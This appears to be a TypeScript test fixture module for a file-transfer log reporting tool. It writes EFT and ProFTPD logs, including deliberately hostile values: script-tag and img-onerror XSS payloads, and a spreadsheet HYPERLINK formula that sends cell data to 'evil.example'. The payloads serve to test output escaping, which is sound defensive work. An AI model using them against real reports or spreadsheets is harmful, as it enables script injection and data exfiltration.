/**
 * Logs for report tests: the real ProFTPD fixtures (test/fixtures/proftpd) and EFT W3C logs, one of
 * whose values are hostile (markup, a spreadsheet formula) and one with enough transfers to fill
 * several printed pages. `indexReportLogs` indexes them with the built CLI into a database kept in a
 * folder of its own (so that a report naming it would show).
 */
import fs from 'node:fs';
import path from 'node:path';
import { EFT_W3C_SAMPLE, REPO, runCli, tempDir, writeLines } from './helpers.js';

export const SCRIPT_USER = '<script>window.__xss=1</script>';
export const FORMULA_USER = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
export const IMG_PATH = '/in/<img src=x onerror=window.__xss=2>.txt';
export const BULK_TRANSFERS = 150;
const PROFTPD = path.join(REPO, 'test', 'fixtures', 'proftpd');

const FIELDS = '#Fields: date time c-ip c-port cs-username cs-method cs-uri-stem cs-uri-query sc-status sc-bytes cs-bytes s-name s-port';
const w3cPath = (p: string) => p.replace(/ /g, '+');

function hostileLog(): string[] {
  const lines = ['#Software: Globalscape EFT Server', '#Date: 2026-03-02 10:00:00', FIELDS];
  lines.push(
    `2026-03-02 10:00:01 10.6.6.6 - ${SCRIPT_USER} [7]user ${SCRIPT_USER} - 331 - - - 21`,
    `2026-03-02 10:00:02 10.6.6.6 - ${SCRIPT_USER} [7]pass ******* - 230 - - - 21`,
    `2026-03-02 10:00:05 10.6.6.6 - ${SCRIPT_USER} [7]created ${w3cPath(IMG_PATH)} - 226 - 54 - 21`,
    `2026-03-02 10:00:09 10.6.6.6 - ${SCRIPT_USER} [7]sent /in/<b>bold</b>.csv - 226 - 99 - 21`,
    `2026-03-02 10:00:12 10.6.6.6 - ${SCRIPT_USER} [7]sent /in/<i>gone</i>.csv - 550 - - - 21`,
  );
  for (let i = 0; i < 6; i++) {
    const s = `2026-03-02 10:0${1 + i}:0`;
    lines.push(`${s}1 203.0.113.9 - ${w3cPath(FORMULA_USER)} [${30 + i}]user ${w3cPath(FORMULA_USER)} - 331 - - - 21`);
    lines.push(`${s}2 203.0.113.9 - ${w3cPath(FORMULA_USER)} [${30 + i}]pass ******* - 530 - - - 21`);
  }
  return lines;
}

function bulkLog(): string[] {
  const pad = (n: number, w = 2) => String(n).padStart(w, '0');
  const lines = ['#Software: Globalscape EFT Server', '#Date: 2026-03-03 08:00:00', FIELDS];
  lines.push('2026-03-03 08:00:00 10.1.0.5 - bulk [90]user bulk - 331 - - - 21', '2026-03-03 08:00:00 10.1.0.5 - bulk [90]pass ******* - 230 - - - 21');
  for (let i = 1; i <= BULK_TRANSFERS; i++) {
    const d = new Date(Date.UTC(2026, 2, 3, 8, 0, i));
    lines.push(`2026-03-03 ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} 10.1.0.5 - bulk [90]created /bulk/transfer-${pad(i, 5)}.bin - 226 - ${1000 + i} - 21`);
  }
  return lines;
}

export interface ReportLogs {
  /** The folder of the logs. */
  logs: string;
  /** The database file, in a folder of its own. */
  db: string;
  cleanup(): void;
}

/** Writes the EFT logs and indexes them with the ProFTPD fixtures (all times UTC). */
export function indexReportLogs(): ReportLogs {
  const logs = tempDir('xferlens-report-logs-');
  const dbDir = tempDir('xferlens-report-db-');
  writeLines(path.join(logs, 'u_ex100408.log'), EFT_W3C_SAMPLE);
  writeLines(path.join(logs, 'u_ex260302.log'), hostileLog());
  writeLines(path.join(logs, 'u_ex260303.log'), bulkLog());
  const db = path.join(dbDir, 'index.sqlite');
  const r = runCli(['index', '--db', db, '--tz', 'UTC', '--proftpd-conf', path.join(PROFTPD, 'proftpd.conf'), path.join(PROFTPD, 'logs'), logs]);
  if (r.status !== 0) throw new Error(`index failed: ${r.stderr}`);
  return {
    logs,
    db,
    cleanup() {
      fs.rmSync(logs, { recursive: true, force: true });
      fs.rmSync(dbDir, { recursive: true, force: true });
    },
  };
}
